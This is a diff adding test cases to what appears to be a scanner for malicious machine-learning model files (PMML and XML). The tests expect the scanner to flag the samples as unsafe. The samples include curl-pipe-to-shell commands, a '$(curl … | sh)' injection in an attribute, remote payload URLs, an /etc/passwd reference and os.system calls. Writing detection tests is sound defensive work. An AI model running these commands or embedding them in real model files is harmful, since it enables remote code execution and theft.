@@ -60,6 +60,16 @@ test.each<[string, string]>([
   ['a.pmml', '<PMML><Extension>import os; os.remove("x")</Extension></PMML>'],
   ['a.pmml', '<PMML xmlns:x="y" x:schemaLocation="http://www.dmg.org/PMML-4_4 http://e.com/a.xsd"/>'],
   ['a.pmml', '<PMML><Model><Value>file:///etc/passwd</Value></Model></PMML>'],
+  ['a.pmml', '<PMML><Header><Annotation>curl http://e/x | sh</Annotation></Header></PMML>'],
+  ['a.pmml', '<PMML><Header><Application name="$(curl http://e | sh)"/></Header></PMML>'],
+  ['a.pmml', '<PMML><Extension value="http://e.example/payload.sh"/></PMML>'],
+  ['a.pmml', '<PMML><Extension value="jdbc:mysql://e/db"/></PMML>'],
+  ['a.xml', net('<layer id="0" name="a" type="RunShell" version="opset1"/>')],
+  [
+    'a.xml',
+    net('<layer id="0" name="a" type="Add" version="opset1"><data x="https://e.example/p.so?token=1"/></layer>')
+  ],
+  ['a.xml', net('<note>import os; os.system("id")</note>')],
   ['a.xml', net('<layer id="0" name="a" type="Add" version="opset1" expr="eval(x)"/>')]
 ])('%s %j is unsafe', (name, text) => {
   expect(scanText(text, name).verdict).toBe('unsafe');
